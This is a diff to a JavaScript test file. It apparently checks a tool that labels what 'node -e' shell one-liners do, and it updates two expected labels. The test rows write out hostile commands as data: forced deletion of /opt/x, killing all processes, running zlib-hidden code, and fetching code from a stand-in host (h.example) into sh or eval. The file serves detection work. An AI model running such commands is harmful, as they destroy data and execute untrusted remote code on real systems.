@@ -264,7 +264,10 @@ describe('what a line of another language does, by each way to say it', () => {
     ["node -e \"'a'.replace(/[/']/, ''); fs.rmSync('/opt/x')\"", 'delete /opt/x by force'],
     ['node -e "const a = b / c; fs.rmSync(\'/opt/x\'); d / e"', 'delete /opt/x by force'],
     ['node -e "/rm/.exec(\'rm /opt/x\')"', ''],
-    ["node -e \"require('child_process').spawn('sh').stdin.write('rm /opt/x')\"", 'delete /opt/x'],
+    [
+      "node -e \"require('child_process').spawn('sh').stdin.write('rm /opt/x')\"",
+      'typed-code; delete /opt/x',
+    ],
     ["node -e \"require('shelljs').rm('-rf', '/opt/x')\"", 'delete /opt/x recursively by force'],
     ["node -e \"require('execa').execa('rm', ['/opt/x'])\"", 'delete /opt/x'],
     ['node -e "process.kill(-1, \'SIGKILL\')"', 'power; kill -1 by force'],
@@ -273,7 +276,7 @@ describe('what a line of another language does, by each way to say it', () => {
     ['node -e "eval(require(\'zlib\').inflateSync(b).toString())"', 'hidden-code $(node ...)'],
     [
       "node -e \"require('https').get('https://h.example/x', r => r.pipe(require('child_process').spawn('sh').stdin))\"",
-      'remote-code',
+      'typed-code; remote-code',
     ],
     [
       'node -e "fetch(\'https://h.example/x\').then(r => r.text()).then(t => eval(t))"',
